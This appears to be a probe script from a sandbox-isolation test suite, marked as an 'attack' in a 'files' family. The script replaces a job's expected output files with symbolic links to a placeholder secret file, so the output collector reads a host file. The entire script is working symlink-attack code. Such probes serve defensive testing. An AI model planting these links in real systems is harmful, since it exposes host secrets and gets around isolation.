# attack: leaves symbolic links under the names of the job's outputs, so that whoever collects them reads a file of the host
# family: files
import os
made = []
for folder in {os.getcwd(), "/job", "/job/out", "/tmp"}:
    for name in ("model.glb", "scene.blend", "view-front.png", "stdout.txt"):
        try:
            path = os.path.join(folder, name)
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink("$SECRET_FILE", path)
            made.append(path)
        except OSError:
            pass
if made:
    print("REACHED links", made)
